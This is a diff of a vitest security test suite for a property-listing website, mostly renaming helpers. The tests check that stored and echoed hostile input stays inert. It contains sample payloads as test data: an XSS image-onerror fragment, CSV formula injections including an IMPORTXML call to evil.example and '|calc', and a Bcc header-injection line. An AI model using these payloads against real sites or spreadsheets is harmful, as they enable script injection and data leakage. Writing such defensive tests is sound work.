@@ -1,20 +1,20 @@
 import { beforeAll, describe, expect, test } from 'vitest'
-import { readXml } from '../../app/routes/feeds/read-xml.test-builder.ts'
-import { csvLines } from '../../app/features/inquiries/admin/inbox/inquiry-csv.ts'
+import { parseXml } from '#app/routes/feeds/parse-xml.test-builder.ts'
+import { csvLines } from '#app/features/inquiries/admin/inbox/inquiry-csv.ts'
 import { hasBrowser, useBrowser } from '../e2e/support/browser.ts'
 import type { Site } from '../e2e/support/site.ts'
-import { signInAt } from '../e2e/support/admin.ts'
+import { signInOnPage } from '../e2e/support/admin.ts'
 import { attack } from './support/attacked-site.ts'
-import { type HostileSite, plantHostileWords } from './support/hostile-site.ts'
-import { hostile, structuredDataIn, whatRuns } from './support/hostile-words.ts'
-import { lettersOf } from './support/letters.ts'
+import { type HostileSite, seedHostileText } from './support/hostile-site.ts'
+import { hostile, parseStructuredData, findExecutableCode } from './support/hostile-words.ts'
+import { readEmails } from './support/letters.ts'
 
 const attacked = attack()
-const { address, dataDir, password, ask, post, sql, as } = attacked
+const { address, dataDir, password, sendRequest, post, sql, as } = attacked
 let site: HostileSite
 
 beforeAll(async () => {
-  site = await plantHostileWords(attacked)
+  site = await seedHostileText(attacked)
 })
 
 const shown = [
@@ -48,14 +48,14 @@ const shown = [
 
 describe('hostile words that are stored stay words', () => {
   test.each(shown)('on the page of %s', async (_, path) => {
-    const answer = await ask(path())
-    const html = await answer.text()
-    expect(answer.status).toBeLessThan(500)
-    expect(whatRuns(html)).toEqual([])
-    expect(() => structuredDataIn(html)).not.toThrow()
+    const response = await sendRequest(path())
+    const html = await response.text()
+    expect(response.status).toBeLessThan(500)
+    expect(findExecutableCode(html)).toEqual([])
+    expect(() => parseStructuredData(html)).not.toThrow()
     // Escaped once, not twice, and not swallowed: the words are there to be read.
-    const showsThem = /property\/|blog\/[a-z0-9]/.test(path())
-    expect(html).toContain(showsThem ? '&lt;img src=x onerror' : '<')
+    const showsListings = /property\/|blog\/[a-z0-9]/.test(path())
+    expect(html).toContain(showsListings ? '&lt;img src=x onerror' : '<')
   })
 
   test.each([
@@ -66,28 +66,28 @@ describe('hostile words that are stored stay words', () => {
     '/blog/feed.xml',
     '/sitemap.xml',
   ])('in %s, which stays well-formed', async (path) => {
-    const answer = await ask(path)
-    const text = await answer.text()
-    expect(() => readXml(text)).not.toThrow()
-    expect(answer.headers.get('content-type')).toMatch(/xml/)
+    const response = await sendRequest(path)
+    const text = await response.text()
+    expect(() => parseXml(text)).not.toThrow()
+    expect(response.headers.get('content-type')).toMatch(/xml/)
     expect(text).not.toMatch(/<(script|svg|img)/)
     expect(text).not.toContain('<![CDATA[')
   })
 
   test.each(['/feeds/reso.json', '/api/openapi.json'])('in %s, which no browser takes for a page', async (path) => {
-    const answer = await ask(path)
-    expect(answer.headers.get('content-type')).toMatch(/^application\/json/)
-    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
+    const response = await sendRequest(path)
+    expect(response.headers.get('content-type')).toMatch(/^application\/json/)
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
     expect(() => JSON.parse('{}')).not.toThrow()
-    JSON.parse(await answer.text())
+    JSON.parse(await response.text())
   })
 
   test.each(['/feeds/meta.csv', '/feeds/google.csv'])('in %s, where no cell starts a formula', async (path) => {
-    const answer = await ask(path)
-    const cells = readCsv(await answer.text()).flat()
+    const response = await sendRequest(path)
+    const cells = parseCsv(await response.text()).flat()
     expect(cells.length).toBeGreaterThan(50)
     expect(cells.filter((cell) => /^[=@\t\r]|^[+-](?![\d.]+$)/.test(cell))).toEqual([])
-    expect(answer.headers.get('content-type')).toMatch(/^text\/csv/)
+    expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
   })
 
   test.each([
@@ -105,19 +105,19 @@ describe('hostile words that are stored stay words', () => {
     '=IMPORTXML("https://evil.example","//a")',
     "'=1+1",
     '|calc',
-  ])('in the file of inquiries: %j', (words) => {
-    const row = { id: '0', created_at: '', name: words, email: words, phone: words, inquiry_type: words }
+  ])('in the file of inquiries: %j', (text) => {
+    const row = { id: '0', created_at: '', name: text, email: text, phone: text, inquiry_type: text }
     const file = csvLines([
       {
         ...row,
-        service_interest: words,
-        property_title: words,
-        status: words,
-        assignee: words,
-        message: words,
+        service_interest: text,
+        property_title: text,
+        status: text,
+        assignee: text,
+        message: text,
       } as never,
     ])
-    for (const cell of readCsv(file).flat()) expect(cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@|＝＋－＠]/u)
+    for (const cell of parseCsv(file).flat()) expect(cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@|＝＋－＠]/u)
   })
 
   test('in every letter that tells of an inquiry, as words, and in no header', async () => {
@@ -128,10 +128,10 @@ describe('hostile words that are stored stay words', () => {
       message: `${hostile.script}\n${hostile.line}\nBcc: victim@evil.example`,
       propertyId: site.propertyId,
     })
-    const found = () => lettersOf(dataDir).filter(({ raw, html }) => (raw + html).includes(email))
+    const found = () => readEmails(dataDir).filter(({ raw, html }) => (raw + html).includes(email))
     await expect.poll(() => found().length, { timeout: 15_000 }).toBeGreaterThan(0)
-    for (const { html, headers, subject } of lettersOf(dataDir)) {
-      expect(whatRuns(html)).toEqual([])
+    for (const { html, headers, subject } of readEmails(dataDir)) {
+      expect(findExecutableCode(html)).toEqual([])
       expect(headers.filter((name) => /^(b?cc|x-evil)$/i.test(name))).toEqual([])
       expect(headers.filter((name) => /^(to|from|subject|message-id)$/i.test(name)).length).toBeLessThanOrEqual(4)
       expect(subject).not.toMatch(/[\r\n]/)
@@ -175,11 +175,11 @@ describe('hostile words that are only asked for stay words', () => {
 
   test.each(echoes)('%s', async (path) => {
     for (const payload of payloads) {
-      const answer = await ask(path + encodeURIComponent(payload))
-      const html = await answer.text()
-      expect(answer.status).toBeLessThan(500)
-      expect(whatRuns(html)).toEqual([])
-      expect(() => structuredDataIn(html)).not.toThrow()
+      const response = await sendRequest(path + encodeURIComponent(payload))
+      const html = await response.text()
+      expect(response.status).toBeLessThan(500)
+      expect(findExecutableCode(html)).toEqual([])
+      expect(() => parseStructuredData(html)).not.toThrow()
     }
   })
 
@@ -194,9 +194,9 @@ describe('hostile words that are only asked for stay words', () => {
     ['/chat', ['fullName', 'email', 'message', 'propertyId']],
   ])('%s gives back what was typed as words', async (path, fields) => {
     for (const payload of payloads) {
-      const answer = await post(path, Object.fromEntries(fields.map((field) => [field, payload])))
-      expect(answer.status).toBeLessThan(500)
-      expect(whatRuns(await answer.text())).toEqual([])
+      const response = await post(path, Object.fromEntries(fields.map((field) => [field, payload])))
+      expect(response.status).toBeLessThan(500)
+      expect(findExecutableCode(await response.text())).toEqual([])
     }
   })
 
@@ -204,10 +204,10 @@ describe('hostile words that are only asked for stay words', () => {
     '%s answers no page',
     async (path) => {
       for (const payload of payloads) {
-        const answer = await ask(path + encodeURIComponent(payload))
-        const type = answer.headers.get('content-type') ?? ''
-        expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
-        expect(type.startsWith('text/html') ? whatRuns(await answer.text()) : []).toEqual([])
+        const response = await sendRequest(path + encodeURIComponent(payload))
+        const type = response.headers.get('content-type') ?? ''
+        expect(response.headers.get('x-content-type-options')).toBe('nosniff')
+        expect(type.startsWith('text/html') ? findExecutableCode(await response.text()) : []).toEqual([])
       }
     },
   )
@@ -246,7 +246,7 @@ describe.skipIf(!hasBrowser)('in a browser nothing of it runs', () => {
       dialogs.push(dialog.message())
       void dialog.dismiss()
     })
-    await signInAt(page, { email: 'super-admin@attacked.example', password })
+    await signInOnPage(page, { email: 'super-admin@attacked.example', password })
     const screens = [
       '/admin/dashboard',
       '/admin/properties',
@@ -290,9 +290,9 @@ describe.skipIf(!hasBrowser)('in a browser nothing of it runs', () => {
 
 describe('rich text', () => {
   test('keeps of a hostile article only what may stand in one', async () => {
-    const html = await (await ask(`/blog/${site.blogSlug}`)).text()
+    const html = await (await sendRequest(`/blog/${site.blogSlug}`)).text()
     const body = /<main[\s\S]*<\/main>/.exec(html)?.[0] ?? ''
-    expect(whatRuns(body, { isFragment: true })).toEqual([])
+    expect(findExecutableCode(body, { isFragment: true })).toEqual([])
     expect(body).not.toMatch(/<(iframe|math|style|object|form action="http)/)
   })
 
@@ -304,7 +304,7 @@ describe('rich text', () => {
 })
 
 /** RFC 4180, read strictly enough to find the cells. */
-function readCsv(text: string): string[][] {
+function parseCsv(text: string): string[][] {
   const rows: string[][] = [[]]
   for (const [, quoted, plain, end] of text
     .replace(/^\uFEFF/, '')
